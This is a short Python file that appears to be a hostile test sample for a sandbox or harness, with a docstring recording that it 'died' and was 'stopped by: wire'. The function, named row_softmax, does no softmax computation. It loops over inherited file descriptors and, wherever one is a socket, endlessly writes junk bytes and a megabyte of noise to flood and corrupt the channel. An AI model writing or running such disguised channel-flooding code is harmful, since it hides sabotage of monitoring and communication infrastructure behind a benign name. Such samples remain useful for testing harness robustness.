"""Fill the channel with random bytes of a fixed seed, in which any length and any header may occur.

verdict: died
deadline: 5
stopped by: wire
"""
import os
import random
import stat


def row_softmax(x, temperature=1.0):
    noise = random.Random("noise").randbytes(2**20)
    for fd in range(3, 32):
        try:
            while stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, b"\xff" * 8 + noise)
        except OSError:
            continue
